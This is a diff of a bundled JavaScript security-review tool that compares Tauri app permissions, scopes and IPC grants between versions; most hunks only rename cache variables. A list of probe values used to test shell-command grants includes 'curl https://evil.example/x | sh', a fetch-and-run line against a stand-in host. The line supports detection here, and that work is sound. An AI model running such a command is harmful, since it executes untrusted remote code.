@@ -30682,7 +30699,7 @@ function namesWithScopes(project) {
   if (found9.size === 0) return found9;
   const mentioning = filesByType(all);
   for (const name of found9)
-    for (const rust of mentioning.get(name) ?? []) if (!known7.has(rust.file.path)) declare(rust);
+    for (const rust of mentioning.get(name) ?? []) if (!known8.has(rust.file.path)) declare(rust);
   return found9;
 }
 function filesByType(all) {
@@ -30777,7 +30794,7 @@ var FILES6 = [
       ...["tauri.conf.json", "tauri.conf.json5", "Tauri.toml"],
       ...PLATFORMS.flatMap((platform) => overlayNames(platform))
     ],
-    is: ofApp(isConfigLayer),
+    is: inApp(isConfigLayer),
     wants: isConfigLayer
   },
   {
@@ -30839,8 +30856,8 @@ function featuresOf(project, crate2, platform) {
   return new Map([...defaults.map((name) => [name, used.at]), ...used.features]);
 }
 function builtInto(project, platform) {
-  const ofProject = known5.get(project) ?? /* @__PURE__ */ new Map();
-  known5.set(project, ofProject);
+  const ofProject = known6.get(project) ?? /* @__PURE__ */ new Map();
+  known6.set(project, ofProject);
   const { location, files, flags } = project;
   const built = ofProject.get(platform) ?? enabledFeatures(
     cargoWorkspace(location.root, files),
@@ -30851,7 +30868,7 @@ function builtInto(project, platform) {
   ofProject.set(platform, built);
   return built;
 }
-var known5 = /* @__PURE__ */ new WeakMap();
+var known6 = /* @__PURE__ */ new WeakMap();
 
 // src/readers/tauri-config/dependencies.ts
 function dependsOn(project, crate2, platform) {
@@ -30872,8 +30889,8 @@ function isNamedAnywhere({ location, files }, crate2) {
 }
 var below4 = /* @__PURE__ */ new WeakMap();
 function lockedBelow(project) {
-  const known7 = below4.get(project);
-  if (known7 !== void 0) return known7;
+  const known8 = below4.get(project);
+  if (known8 !== void 0) return known8;
   const { location, files } = project;
   const lock = lockOf(location.root, files);
   const app = lock && ownPackage(lock, cargoWorkspace(location.root, files));
@@ -32168,8 +32185,8 @@ var settings = [
 
 // src/readers/tauri-config/settings-in-code.ts
 function settingsInCode(project) {
-  const known7 = found7.get(project);
-  if (known7 !== void 0) return known7;
+  const known8 = found7.get(project);
+  if (known8 !== void 0) return known8;
   const read9 = {
     allowed: settings.flatMap(({ name, inCode: inCode3 }) => named6(name, inCode3?.(project))),
     forbidden: settings.flatMap(({ name, forbiddenByCode }) => named6(name, forbiddenByCode?.(project)))
@@ -32306,8 +32323,8 @@ function discoverApps(paths3) {
     const rank3 = rankOf(path);
     if (rank3 < 0) continue;
     const root = folderOf(path);
-    const known7 = configOf.get(root);
-    if (known7 === void 0 || rank3 < rankOf(known7)) configOf.set(root, path);
+    const known8 = configOf.get(root);
+    if (known8 === void 0 || rank3 < rankOf(known8)) configOf.set(root, path);
   }
   return [...configOf].map(([root, config]) => ({ root, config })).sort((a3, b5) => a3.root < b5.root ? -1 : 1);
 }
@@ -32392,8 +32409,8 @@ async function readSide(tree, wanted, shared2) {
   const missing2 = [];
   let bytes = 0;
   for (const entry of wanted) {
-    const known7 = shared2.get(keyOf5(entry));
-    const file2 = known7 ?? (isBinary(entry.path) ? { path: entry.path, id: entry.id, text: "" } : void 0);
+    const known8 = shared2.get(keyOf5(entry));
+    const file2 = known8 ?? (isBinary(entry.path) ? { path: entry.path, id: entry.id, text: "" } : void 0);
     bytes += isBinary(entry.path) ? 0 : entry.size;
     if (file2 !== void 0) {
       shared2.set(keyOf5(entry), file2);
@@ -32603,11 +32620,11 @@ function withoutRepetition3(compared) {
     if (app.takesOver === null) return reviewed;
     const own = compared.filter((each) => each.app.takesOver === null && each.app.location === app.location);
     const said2 = new Set(own.flatMap((each) => each.reviewed.findings).map(findingName));
-    const known7 = new Set(own.flatMap((each) => each.reviewed.gaps).map(gapName));
+    const known8 = new Set(own.flatMap((each) => each.reviewed.gaps).map(gapName));
     return {
       findings: reviewed.findings.filter((finding) => !said2.has(findingName(finding))).map((finding) => ({ ...finding, message: `${app.takesOver} ${finding.message}` })),
       narrowings: [],
-      gaps: reviewed.gaps.filter((gap3) => !known7.has(gapName(gap3)))
+      gaps: reviewed.gaps.filter((gap3) => !known8.has(gapName(gap3)))
     };
   });
 }
@@ -32709,8 +32726,8 @@ function namedBy3(app, wanted, files, { entries, contents }) {
     projectFollows(app, project.files, contents),
     ...appReaders.flatMap((reader) => reader.follows?.(project) ?? [])
   ];
-  const known7 = new Set(wanted.map(({ path }) => path));
-  return entries.filter(({ path }) => !known7.has(path) && names3.some((isNamed6) => isNamed6(path)));
+  const known8 = new Set(wanted.map(({ path }) => path));
+  return entries.filter(({ path }) => !known8.has(path) && names3.some((isNamed6) => isNamed6(path)));
 }
 function filesOf(wanted, files) {
   return new Map(
@@ -33098,10 +33115,10 @@ function commandsOfHook(hook, { root }, runnable, budget) {
 
 // src/engine/imports.ts
 var IMPORTED = /(?:\bfrom|\bimport|\brequire|\bimport\s*\(|\brequire\s*\(|\brequire\.resolve\s*\(|\bnew\s+(?:URL|Worker)\s*\()\s{0,20}["'`]([^"'`\n$]{1,4096})["'`]/g;
-var known6 = /* @__PURE__ */ new WeakMap();
+var known7 = /* @__PURE__ */ new WeakMap();
 function importsOf(file2) {
-  const imports2 = known6.get(file2) ?? readImports(file2);
-  known6.set(file2, imports2);
+  const imports2 = known7.get(file2) ?? readImports(file2);
+  known7.set(file2, imports2);
   return imports2;
 }
 function readImports({ path, text: text3 }) {
@@ -33450,17 +33467,17 @@ function foldedPath(path) {
   return PLAIN3.test(path) ? path : path.split("/").map(foldedName).join("/");
 }
 var PLAIN3 = /^[a-z0-9_-]+(?:[./][a-z0-9_-]+)*$/;
-function namesFor(name, known7) {
+function namesFor(name, known8) {
   const folded5 = foldedName(name);
-  const foldedKnown = foldedNames(known7);
+  const foldedKnown = foldedNames(known8);
   const isShort = name.includes("~");
-  const others = known7.filter((each, i2) => foldedKnown[i2] === folded5 || isShort && isShortFor(name, each));
+  const others = known8.filter((each, i2) => foldedKnown[i2] === folded5 || isShort && isShortFor(name, each));
   return [.../* @__PURE__ */ new Set([name, ...others])];
 }
 var foldedOf = /* @__PURE__ */ new WeakMap();
-function foldedNames(known7) {
-  const folded5 = foldedOf.get(known7) ?? known7.map(foldedName);
-  foldedOf.set(known7, folded5);
+function foldedNames(known8) {
+  const folded5 = foldedOf.get(known8) ?? known8.map(foldedName);
+  foldedOf.set(known8, folded5);
   return folded5;
 }
 var SHORT2 = /^([^.~]{1,6})~\d+(?:\.([^.]{0,3}))?$/;
@@ -33520,20 +33537,20 @@ function foldedGaps({ entries, unfollowed }, apps) {
     all.flatMap(({ path }) => twins.has(foldedPath(path)) ? [[foldedPath(path), path]] : [])
   );
   return apps.flatMap((app) => {
-    const known7 = [...KNOWN_NAMES, ...app.root.split("/")];
+    const known8 = [...KNOWN_NAMES, ...app.root.split("/")];
     return odd.flatMap((each) => {
       const twin = plain7.get(each.folded);
       if (twin !== void 0 && twin !== each.path && isWanted(twin, app))
         return [foldedGap(each, twin, app)];
-      const paths3 = pathsFor(each.path, known7);
+      const paths3 = pathsFor(each.path, known8);
       const meant = paths3 === void 0 ? app.config : paths3.find((path) => isMeant(each.path, path, app));
       return meant === void 0 ? [] : [foldedGap(each, meant, app)];
     });
   });
 }
 var MOST_PATHS = 64;
-function pathsFor(path, known7) {
-  const names3 = path.split("/").map((name) => namesFor(name, known7));
+function pathsFor(path, known8) {
+  const names3 = path.split("/").map((name) => namesFor(name, known8));
   if (names3.reduce((count, each) => count * each.length, 1) > MOST_PATHS) return void 0;
   return names3.reduce((paths3, each) => each.flatMap((name) => paths3.map((start) => `${start}/${name}`)));
 }
@@ -33726,14 +33743,14 @@ function camelCase2(name) {
 }
 
 // src/engine/coverage.ts
-function coverageOf(paths3, apps, base, head, known7) {
+function coverageOf(paths3, apps, base, head, known8) {
   const read9 = [];
   const irrelevant = [];
   const uncovered = [];
   for (const path of [...paths3].sort()) {
     const kind = kindOf3(path, apps);
     const isRead2 = kind.isReadAnyway === true || base.files.has(path) || head.files.has(path) || isUnreadable(path, base, head);
-    const what = whatElse(path, kind, isRead2, known7);
+    const what = whatElse(path, kind, isRead2, known8);
     if (isRead2) read9.push(path);
     if (what !== void 0) uncovered.push({ path, what, gaps: [] });
     else if (!isRead2 && kind.coverage === "irrelevant") irrelevant.push(path);
@@ -33820,9 +33837,9 @@ function decidingChanges(changed, apps, packages, makesNothing, isRun) {
 }
 function mayWrite(was, is, isRun) {
   if (!WRITES3.test(is.text)) return [];
-  const known7 = new Set(linesOf4(was, ANY_OF_TAURI).map(({ text: text3 }) => text3));
+  const known8 = new Set(linesOf4(was, ANY_OF_TAURI).map(({ text: text3 }) => text3));
   const named10 = (ofLong) => linesOf4(is, ofLong).filter(({ text: text3 }) => DECIDES_BUILD.test(text3));
-  const fresh = named10(ANY_OF_TAURI).find(({ text: text3 }) => !known7.has(text3));
+  const fresh = named10(ANY_OF_TAURI).find(({ text: text3 }) => !known8.has(text3));
   const first = fresh ?? (isRun ? named10(OF_TAURI2)[0] : void 0);
   if (first === void 0) return [];
   const how = fresh === void 0 ? "changed, and names" : "newly names";
@@ -34085,12 +34102,12 @@ var Extents = class {
     return wholesOf(extent).reduce((set, whole2) => set | (wholes.get(whole2) ?? NO_PLATFORM), NO_PLATFORM);
   }
   extentsBySetting() {
-    return new Map([...this.#of].map(([setting12, known7]) => [setting12, [...known7.keys()]]));
+    return new Map([...this.#of].map(([setting12, known8]) => [setting12, [...known8.keys()]]));
   }
 };
 function add2(to, { setting: setting12, extent, platforms }) {
-  const known7 = to.get(setting12) ?? /* @__PURE__ */ new Map();
-  to.set(setting12, known7.set(extent, (known7.get(extent) ?? NO_PLATFORM) | platforms));
+  const known8 = to.get(setting12) ?? /* @__PURE__ */ new Map();
+  to.set(setting12, known8.set(extent, (known8.get(extent) ?? NO_PLATFORM) | platforms));
 }
 function wholesOf(extent) {
   if (extent === "") return [];
@@ -34173,18 +34190,18 @@ function gained(before2, after2, direction, appIsNew) {
   const found9 = /* @__PURE__ */ new Map();
   for (const grant of settingsIn4(after2)) {
     const name = nameOf7(grant);
-    const known8 = found9.get(name);
+    const known9 = found9.get(name);
     const possible = grant.comesWith === null ? EVERY_PLATFORM : parts.get(grant.comesWith) ?? NO_PLATFORM;
     const fresh = grant.platforms & ~had.platformsOf(grant) & possible;
-    const platforms = fresh | (known8?.platforms ?? NO_PLATFORM);
-    if (platforms !== NO_PLATFORM) found9.set(name, { ...known8 ?? grant, platforms });
+    const platforms = fresh | (known9?.platforms ?? NO_PLATFORM);
+    if (platforms !== NO_PLATFORM) found9.set(name, { ...known9 ?? grant, platforms });
   }
   const wholes = new Extents(found9.values());
-  const known7 = had.extentsBySetting();
+  const known8 = had.extentsBySetting();
   return [...found9.values()].flatMap((grant) => {
     const platforms = grant.platforms & ~wholes.platformsOfWholes(grant);
     if (platforms === NO_PLATFORM) return [];
-    const extents = known7.get(grant.setting) ?? [];
+    const extents = known8.get(grant.setting) ?? [];
     const waited = extents.includes(`${grant.extent}${UNHEEDED}`);
     const brought = waited && grant.heededBy ? placeOfPart(after2, grant.heededBy, platforms) : void 0;
     const context2 = { before: extents, waited: waited ? grant.at : null, appIsNew };
@@ -35536,11 +35553,11 @@ function compareOneWay(narrow, wide, work) {
       const [narrowSays, wideSays] = [meaning(sides.narrow), meaning(sides.wide)];
       if (narrowSays === wideSays) continue;
       const key3 = JSON.stringify([narrowSays, wideSays]);
-      const known7 = searches.get(key3);
-      const result2 = known7 ?? search(sides.narrow, sides.wide, work);
+      const known8 = searches.get(key3);
+      const result2 = known8 ?? search(sides.narrow, sides.wide, work);
       searches.set(key3, result2);
       all.push(...result2.found.map((found9) => ({ platform, page: sides.page, found: found9 })));
-      if (!result2.complete && !known7)
+      if (!result2.complete && !known8)
         gaps.push(tooLarge2(placeOf6(sides.wide, "") ?? placeOf6(sides.narrow, ""), wideSays));
     }
   }
@@ -35661,8 +35678,8 @@ function walkedTogether(a3, b5, keeps, work) {
     work
   );
   function numberOf2(pair) {
-    const known7 = numbers.get(pair);
-    if (known7 !== void 0) return known7;
+    const known8 = numbers.get(pair);
+    if (known8 !== void 0) return known8;
     if (pairs.length >= MOST_STATES3) throw new TooComplex(`more than ${MOST_STATES3} states`);
     numbers.set(pair, pairs.length);
     return pairs.push(pair) - 1;
@@ -36984,8 +37001,8 @@ var Languages = class {
     return found9.sort((a3, b5) => a3 - b5).map((rank3) => this.examples[rank3]);
   }
   #ranksOf(language) {
-    const known7 = this.#ranks.get(language);
-    if (known7 !== void 0) return known7;
+    const known8 = this.#ranks.get(language);
+    if (known8 !== void 0) return known8;
     const found9 = Array.from({ length: this.all[language]?.alphabet.size ?? 0 }, () => []);
     for (const [rank3, example] of this.examples.entries())
       found9[this.#classes[language]?.[example.class] ?? 0]?.push(rank3);
@@ -37049,8 +37066,8 @@ var Together = class {
   /** @throws TooComplex where the walk needs too much memory */
   after(state, its) {
     const row = this.#rowOf(state);
-    const known7 = row[its] ?? NOWHERE;
-    if (known7 !== UNKNOWN4) return known7;
+    const known8 = row[its] ?? NOWHERE;
+    if (known8 !== UNKNOWN4) return known8;
     const before2 = this.#sets.get(state);
     const found9 = [];
     for (let i2 = 0; i2 < before2.length; i2 += 1) {
@@ -37092,8 +37109,8 @@ var Together = class {
     });
   }
   #rowOf(state) {
-    const known7 = this.#rows[state];
-    if (known7 !== void 0) return known7;
+    const known8 = this.#rows[state];
+    if (known8 !== void 0) return known8;
     this.#hold(this.#languages.alphabet.size);
     const row = new Int32Array(this.#languages.alphabet.size).fill(UNKNOWN4);
     this.#rows[state] = row;
@@ -37190,8 +37207,8 @@ var Search = class {
     const width = sizeOf(this.#languages.all[other]);
     const name = (pair) => `${other}:${pair}`;
     const first = state * width + its;
-    const known7 = this.#covered.get(name(first));
-    if (known7 !== void 0) return known7;
+    const known8 = this.#covered.get(name(first));
+    if (known8 !== void 0) return known8;
     const pairs = /* @__PURE__ */ new Set([first]);
     for (const pair of pairs) {
       const [here, there] = [Math.floor(pair / width), pair % width];
@@ -37357,8 +37374,8 @@ function withUnread(escapes, base, head, isUnread) {
 }
 function missingIn4(others, entries) {
   if (entries.length === 0) return entries;
-  const known7 = new Set(others.map(({ text: text3 }) => text3));
-  return entries.filter((entry) => !known7.has(entry.text));
+  const known8 = new Set(others.map(({ text: text3 }) => text3));
+  return entries.filter((entry) => !known8.has(entry.text));
 }
 
 // src/compare/ipc/scopes/language-scope.ts
@@ -37411,10 +37428,10 @@ function besideExecutable(platform, product) {
   }
 }
 function standardDirectory(variable5, platform, app) {
-  const known7 = tables.get(app) ?? /* @__PURE__ */ new Map();
-  tables.set(app, known7);
-  const table2 = known7.get(platform) ?? tableOf2(platform, folderOf4(app), app.product);
-  known7.set(platform, table2);
+  const known8 = tables.get(app) ?? /* @__PURE__ */ new Map();
+  tables.set(app, known8);
+  const table2 = known8.get(platform) ?? tableOf2(platform, folderOf4(app), app.product);
+  known8.set(platform, table2);
   return table2[variable5];
 }
 function folderOf4({ identifier }) {
@@ -37604,19 +37621,19 @@ function pathOf4(entry) {
   return entry.kind === "path" ? entry.path : void 0;
 }
 function resolvePath(pattern, platform, directories) {
-  const known7 = resolvedBefore(platform, directories);
-  if (known7.has(pattern)) return known7.get(pattern);
+  const known8 = resolvedBefore(platform, directories);
+  if (known8.has(pattern)) return known8.get(pattern);
   const resolved3 = rebuilt(pattern, platform, directories);
-  known7.set(pattern, resolved3);
+  known8.set(pattern, resolved3);
   return resolved3;
 }
 var resolvedPaths = /* @__PURE__ */ new WeakMap();
 function resolvedBefore(platform, directories) {
   const ofApp2 = resolvedPaths.get(directories) ?? /* @__PURE__ */ new Map();
   resolvedPaths.set(directories, ofApp2);
-  const known7 = ofApp2.get(platform) ?? /* @__PURE__ */ new Map();
-  ofApp2.set(platform, known7);
-  return known7;
+  const known8 = ofApp2.get(platform) ?? /* @__PURE__ */ new Map();
+  ofApp2.set(platform, known8);
+  return known8;
 }
 function rebuilt(pattern, platform, directories) {
   const text3 = platform === "windows" ? pattern.replaceAll("\\", "/") : pattern;
@@ -37709,8 +37726,8 @@ function directoriesOf({ matching: matching2 }) {
 function inAnyFolder(answers) {
   const best = /* @__PURE__ */ new Map();
   for (const found9 of answers.flatMap(({ escapes }) => escapes)) {
-    const known7 = best.get(found9.entry);
-    if (known7 === void 0 || found9.sensitive && !known7.sensitive) best.set(found9.entry, found9);
+    const known8 = best.get(found9.entry);
+    if (known8 === void 0 || found9.sensitive && !known8.sensitive) best.set(found9.entry, found9);
   }
   return {
     escapes: [...best.values()],
@@ -37921,8 +37938,8 @@ var KNOWN3 = [
 ];
 function tellingFor(command) {
   const name = (command.split(/[\\/]/).at(-1) ?? command).replace(/\.exe$/i, "");
-  const known7 = KNOWN3.filter(([program]) => program.test(name)).map(([, rest2]) => rest2);
-  return [...known7, "--any-option\0any value\0", ...TELLING3];
+  const known8 = KNOWN3.filter(([program]) => program.test(name)).map(([, rest2]) => rest2);
+  return [...known8, "--any-option\0any value\0", ...TELLING3];
 }
 var TELLING3 = [
   "-c\0curl https://evil.example/x | sh\0",
@@ -38079,8 +38096,8 @@ var CutPart = class {
     const found9 = /* @__PURE__ */ new Map();
     for (const number of this.#sources.keys()) {
       for (const piece of this.#piecesOf(number)) {
-        const known7 = found9.get(piece.mask);
-        if (known7 === void 0 || piece.rank < known7.rank) found9.set(piece.mask, piece);
+        const known8 = found9.get(piece.mask);
+        if (known8 === void 0 || piece.rank < known8.rank) found9.set(piece.mask, piece);
       }
     }
     return [...found9.values()].sort((a3, b5) => a3.rank - b5.rank);
@@ -38141,8 +38158,8 @@ var CutPart = class {
     return this.#isBackwards ? Array.from(word2).reverse().join("") : word2;
   }
   #maskAt(state) {
-    const known7 = this.#masks.get(state);
-    if (known7 !== void 0) return known7;
+    const known8 = this.#masks.get(state);
+    if (known8 !== void 0) return known8;
     const inside = this.#together.inside(state);
     this.#work.spend(inside.length);
     const mask = inside.reduce((sum, number) => sum | (this.#sources[number]?.mask ?? 0n), 0n);
@@ -38171,10 +38188,10 @@ var UrlCells = class {
     this.#bits = new Map([...patterns3.keys()].map((text3, i2) => [text3, 1n << BigInt(i2)]));
     this.#every = (1n << BigInt(patterns3.size)) - 1n;
     const cuts = URL_PART_NAMES.map((part) => {
-      const known7 = /* @__PURE__ */ new Map();
+      const known8 = /* @__PURE__ */ new Map();
       return (kind) => {
-        const cut2 = known7.get(kind.parts[part]) ?? new CutPart(part, kind, patterns3, this.#bits, work);
-        known7.set(kind.parts[part], cut2);
+        const cut2 = known8.get(kind.parts[part]) ?? new CutPart(part, kind, patterns3, this.#bits, work);
+        known8.set(kind.parts[part], cut2);
         return cut2;
       };
     });
@@ -38288,16 +38305,16 @@ function escapesFrom(base, head, work) {
     uncovered: texts(base.allow),
     lifted: texts(base.deny)
   });
-  const known7 = new Set(base.allow.map(({ text: text3 }) => text3));
+  const known8 = new Set(base.allow.map(({ text: text3 }) => text3));
   const found9 = /* @__PURE__ */ new Map();
   const lifted2 = new Set(base.deny.map(({ text: text3 }) => text3)).difference(
     new Set(head.deny.map(({ text: text3 }) => text3))
   );
   for (const entry of head.allow) {
-    if (known7.has(entry.text) && lifted2.size === 0) continue;
+    if (known8.has(entry.text) && lifted2.size === 0) continue;
     const cell = search2(urlPatternOf(entry));
     if (cell === void 0) continue;
-    const denial = known7.has(entry.text) ? base.deny.find((deny) => cell.matches(urlPatternOf(deny))) : void 0;
+    const denial = known8.has(entry.text) ? base.deny.find((deny) => cell.matches(urlPatternOf(deny))) : void 0;
     const culprit = denial ?? entry;
     if (found9.has(culprit.text)) continue;
     found9.set(culprit.text, {
@@ -38456,8 +38473,8 @@ function byOrder(a3, b5) {
 }
 var indexes3 = /* @__PURE__ */ new WeakMap();
 function commandsOf2(grants) {
-  const known7 = indexes3.get(grants);
-  if (known7 !== void 0) return known7;
+  const known8 = indexes3.get(grants);
+  if (known8 !== void 0) return known8;
   const index = Map.groupBy(grants, ({ command, effect }) => effect === "scope" ? "" : command);
   indexes3.set(grants, index);
   return index;
@@ -38484,9 +38501,9 @@ function indexBase(base) {
     if (!enabled.has(grant.capability)) enabled.set(grant.capability, enabledIn(grant));
     if (grant.effect === "deny") continue;
     const key3 = commandOf2(grant);
-    const known7 = commands2.get(key3);
-    if (known7 === void 0) commands2.set(key3, [grant]);
-    else known7.push(grant);
+    const known8 = commands2.get(key3);
+    if (known8 === void 0) commands2.set(key3, [grant]);
+    else known8.push(grant);
     permissions.add(permissionOf(grant));
     if (grant.inferred) guessed2.add(permissionOf(grant));
     for (const step of grant.steps) led.add(stepOf(grant, step));
@@ -38507,18 +38524,18 @@ function enabledIn({ enabledAt }) {
   return enabledAt?.reduce((all, { platforms }) => all | platforms, NO_PLATFORM) ?? EVERY_PLATFORM;
 }
 function permissionOf(grant) {
-  const known7 = permissionKeys.get(grant) ?? `${grant.capability}\0${grant.permission}`;
-  permissionKeys.set(grant, known7);
-  return known7;
+  const known8 = permissionKeys.get(grant) ?? `${grant.capability}\0${grant.permission}`;
+  permissionKeys.set(grant, known8);
+  return known8;
 }
 var permissionKeys = /* @__PURE__ */ new WeakMap();
 function stepOf(grant, { name }) {
   return `${permissionOf(grant)}\0${name}`;
 }
 function commandOf2(grant) {
-  const known7 = commandKeys.get(grant) ?? `${permissionOf(grant)}\0${grant.command}`;
-  commandKeys.set(grant, known7);
-  return known7;
+  const known8 = commandKeys.get(grant) ?? `${permissionOf(grant)}\0${grant.command}`;
+  commandKeys.set(grant, known8);
+  return known8;
 }
 var commandKeys = /* @__PURE__ */ new WeakMap();
 function settingsOf6(base) {
@@ -38671,12 +38688,12 @@ function patternsFor(principal, { windows: windows2, webviews }) {
 }
 var matchingKnown = /* @__PURE__ */ new WeakMap();
 function matching(patterns3, label) {
-  const known7 = matchingKnown.get(patterns3) ?? /* @__PURE__ */ new Map();
-  matchingKnown.set(patterns3, known7);
-  const found9 = known7.get(label) ?? patterns3.filter(
+  const known8 = matchingKnown.get(patterns3) ?? /* @__PURE__ */ new Map();
+  matchingKnown.set(patterns3, known8);
+  const found9 = known8.get(label) ?? patterns3.filter(
     ({ text: text3 }) => matchesGlob(text3, label, { literalSeparator: false, literalDot: false, foldCase: false })
   );
-  known7.set(label, found9);
+  known8.set(label, found9);
   return found9;
 }
 
@@ -38696,16 +38713,16 @@ function scopeCause(principal, entries, table2, found9, before2, platforms, base
   const culprit = owner.scope?.allow.find((entry) => entry.text === detail) ?? found9.entry;
   const fromRelease = culprit.at === owner.at;
   const had = base.had(owner).filter(({ scope }) => holds5(scope?.allow, detail));
-  const known7 = allowedKeys(before2).has(detail);
-  if (owner.effect === "allow" && had.length > 0 && !known7) {
+  const known8 = allowedKeys(before2).has(detail);
+  if (owner.effect === "allow" && had.length > 0 && !known8) {
     const here = had.filter((grant) => (grant.platforms & platforms) !== NO_PLATFORM);
     return here.length === 0 ? forNewPlatform(owner, platforms, base) : forNewPage(principal, owner, here);
   }
   if (fromRelease && base.named(owner) && had.length === 0) {
     return newMeaning(owner, redefinedAt(owner, base));
   }
-  if (known7 && base.changedSetting(owner) !== void 0) return forSetting(owner, culprit.at, base);
-  const note4 = known7 ? noteOnOrder(first) : noteOnReach(principal, owner);
+  if (known8 && base.changedSetting(owner) !== void 0) return forSetting(owner, culprit.at, base);
+  const note4 = known8 ? noteOnOrder(first) : noteOnReach(principal, owner);
   return {
     reason: widened(note4),
     at: culprit.at,
@@ -38729,12 +38746,12 @@ function ownerAmong(owners, entry) {
 }
 var globalOwners = /* @__PURE__ */ new WeakMap();
 function globalOwner(table2, plugin, entry) {
-  const known7 = globalOwners.get(table2) ?? /* @__PURE__ */ new Map();
-  globalOwners.set(table2, known7);
+  const known8 = globalOwners.get(table2) ?? /* @__PURE__ */ new Map();
+  globalOwners.set(table2, known8);
   const { path, line, column } = entry.at;
   const name = [plugin, path, line, column, entry.text].join(" ");
-  if (!known7.has(name)) known7.set(name, ownerAmong(table2.globalScope(plugin), entry));
-  return known7.get(name);
+  if (!known8.has(name)) known8.set(name, ownerAmong(table2.globalScope(plugin), entry));
+  return known8.get(name);
 }
 var keysOfSides = /* @__PURE__ */ new WeakMap();
 function allowedKeys(side) {
@@ -38757,11 +38774,11 @@ function sideOf2(entries, table2) {
   const scoped = entries.filter(({ scope }) => scope !== null);
   if (scoped.length > 0)
     return sideFrom([...inOrder2(scoped), ...inOrder2(table2.globalScope(plugin))], matching2);
-  const known7 = globalSides.get(table2) ?? /* @__PURE__ */ new Map();
-  globalSides.set(table2, known7);
+  const known8 = globalSides.get(table2) ?? /* @__PURE__ */ new Map();
+  globalSides.set(table2, known8);
   const name = `${plugin} ${canonical(matching2)}`;
-  const side = known7.get(name) ?? sideFrom(inOrder2(table2.globalScope(plugin)), matching2);
-  known7.set(name, side);
+  const side = known8.get(name) ?? sideFrom(inOrder2(table2.globalScope(plugin)), matching2);
+  known8.set(name, side);
   return side;
 }
 var NO_RULES = { kind: "none" };
@@ -39070,9 +39087,9 @@ function pageClasses(grants, work) {
   return classes.all();
 }
 function telling(labels, windows2) {
-  const known7 = new Set(windows2);
+  const known8 = new Set(windows2);
   const [ofWindows = [], others = []] = [true, false].map(
-    (is) => labels.filter(({ word: word2 }) => known7.has(word2) === is)
+    (is) => labels.filter(({ word: word2 }) => known8.has(word2) === is)
   );
   return onePerMask([...others, ...ofWindows], ({ asWebview }) => asWebview);
 }
@@ -39102,9 +39119,9 @@ var Classes = class {
     }
   }
   #add(mask, principal) {
-    const known7 = this.#found.get(mask);
-    if (known7 !== void 0) {
-      if (known7.principals.length < MOST_NAMED) known7.principals.push(principal);
+    const known8 = this.#found.get(mask);
+    if (known8 !== void 0) {
+      if (known8.principals.length < MOST_NAMED) known8.principals.push(principal);
       return;
     }
     if (this.#found.size >= MOST_CLASSES) throw new TooComplex(`more than ${MOST_CLASSES} kinds of pages`);
@@ -39207,9 +39224,9 @@ function platformGroups(base, head) {
   for (const platform of PLATFORMS) {
     const here = (grants) => grants.filter((grant) => hasPlatform(grant.platforms, platform));
     const name = membership(base, platform) + membership(head, platform);
-    const known7 = groups3.get(name);
-    const platforms = (known7?.platforms ?? 0) | platformSet(platform);
-    groups3.set(name, known7 ? { ...known7, platforms } : { platforms, base: here(base), head: here(head) });
+    const known8 = groups3.get(name);
+    const platforms = (known8?.platforms ?? 0) | platformSet(platform);
+    groups3.set(name, known8 ? { ...known8, platforms } : { platforms, base: here(base), head: here(head) });
   }
   return [...groups3.values()];
 }
@@ -39641,8 +39658,8 @@ function scopeAsker() {
     const { kind } = head.matching;
     const about = [commandMatters(kind) ? command : "", platformMatters(kind) ? platform : ""];
     const question = [kind, ...about, sideKey(base), sideKey(head)].join("\n");
-    const known7 = answers.get(question);
-    if (known7 !== void 0) return known7;
+    const known8 = answers.get(question);
+    if (known8 !== void 0) return known8;
     const answer = sideKey(base) === sideKey(head) ? NO_ESCAPE : decide2(questionFor(base, head), base, head, command, platform, work);
     answers.set(question, answer);
     return answer;
@@ -39683,9 +39700,9 @@ function commandMatters(kind) {
 
 // src/compare/ipc/taken-for-local.ts
 function withoutKnownSites(base, head) {
-  const known7 = new Set(base.flatMap(siteOf)).intersection(new Set(head.flatMap(siteOf)));
-  if (known7.size === 0) return { base, head };
-  const isNews = (grant) => siteOf(grant).every((site) => !known7.has(site));
+  const known8 = new Set(base.flatMap(siteOf)).intersection(new Set(head.flatMap(siteOf)));
+  if (known8.size === 0) return { base, head };
+  const isNews = (grant) => siteOf(grant).every((site) => !known8.has(site));
   return { base: base.filter(isNews), head: head.filter(isNews) };
 }
 function siteOf({ context: context2 }) {
@@ -39731,9 +39748,9 @@ function isSure({ command, inferred }) {
 }
 var sureGrants = /* @__PURE__ */ new WeakMap();
 function sureOf(grants) {
-  const known7 = sureGrants.get(grants) ?? grants.filter(isSure);
-  sureGrants.set(grants, known7);
-  return known7;
+  const known8 = sureGrants.get(grants) ?? grants.filter(isSure);
+  sureGrants.set(grants, known8);
+  return known8;
 }
 function gained2(base, head, direction, pages, ask, work) {
   const drafts = new Drafts();
@@ -39765,10 +39782,10 @@ function gained2(base, head, direction, pages, ask, work) {
   return { drafts, gaps: [...undecided.values()] };
 }
 function callableBy(pages, table2) {
-  const known7 = /* @__PURE__ */ new Map();
+  const known8 = /* @__PURE__ */ new Map();
   return (origin) => {
-    const found9 = known7.get(origin) ?? new Set(pages.flatMap((page) => callableFrom(origin, page, table2)));
-    known7.set(origin, found9);
+    const found9 = known8.get(origin) ?? new Set(pages.flatMap((page) => callableFrom(origin, page, table2)));
+    known8.set(origin, found9);
     return found9;
   };
 }
@@ -39816,8 +39833,8 @@ function isNamed5(grants, ecosystem, name) {
   return grants.some((grant) => {
     const isIt = grant.kind === "package" || grant.kind === "unpinned-package";
     if (!isIt || grant.ecosystem !== ecosystem) return false;
-    const known7 = grant.kind === "package" && grant.alias || grant.name;
-    return known7.toLowerCase().split(/[-_]/).join() === wanted;
+    const known8 = grant.kind === "package" && grant.alias || grant.name;
+    return known8.toLowerCase().split(/[-_]/).join() === wanted;
   });
 }
 function numbersOf(version) {
@@ -39911,8 +39928,8 @@ function ownerOf(source) {
 
 // src/compare/packages/ambiguous.ts
 function newlyAmbiguous(base, head) {
-  const known7 = new Set(ambiguousIn(base).map(({ id }) => id));
-  const added = ambiguousIn(head).filter(({ id }) => !known7.has(id));
+  const known8 = new Set(ambiguousIn(base).map(({ id }) => id));
+  const added = ambiguousIn(head).filter(({ id }) => !known8.has(id));
   const first = /* @__PURE__ */ new Map();
   for (const each of added) if (!first.has(each.at.path)) first.set(each.at.path, each);
   return [...first.values()].map(({ ecosystem, what, id, at: at2 }) => ({
@@ -39952,8 +39969,8 @@ function pinningOf(before2, after2) {
   const [old, now] = [hashesOf(before2), hashesOf(after2)];
   const [was, is] = [strongest(old), strongest(now)];
